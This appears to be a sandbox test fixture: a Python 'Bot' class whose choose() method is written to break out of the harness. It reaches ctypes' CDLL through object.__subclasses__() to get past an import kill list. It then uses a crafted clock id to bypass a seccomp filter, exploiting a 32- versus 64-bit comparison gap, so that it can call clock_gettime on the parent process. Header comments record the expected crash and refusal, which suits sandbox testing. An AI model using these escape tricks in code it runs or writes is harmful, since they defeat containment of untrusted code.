# verdict: crash
# says: refused
# layers: seccomp kill_list
# The kernel looks at 32 bits of a clock's id: with others in the rest it is no negative number to a filter
# that compares all 64.
import os, sys
CLOCK_GETTIME = 228 if "x86_64" in sys.implementation._multiarch else 113
class Bot:
    def choose(self, view, options):
        library = next(kind for kind in object.__subclasses__() if kind.__name__ == "CDLL")(None)
        wide = type(library.getpid.restype(0)).__mro__[1].__subclasses__()
        long = next(kind for kind in wide if getattr(kind, "_type_", "") == "l")
        clock = ((~os.getppid() << 3) | 2) & 0xFFFFFFFF
        if library.syscall(CLOCK_GETTIME, long(clock), bytes(16)) < 0:
            raise PermissionError("refused")
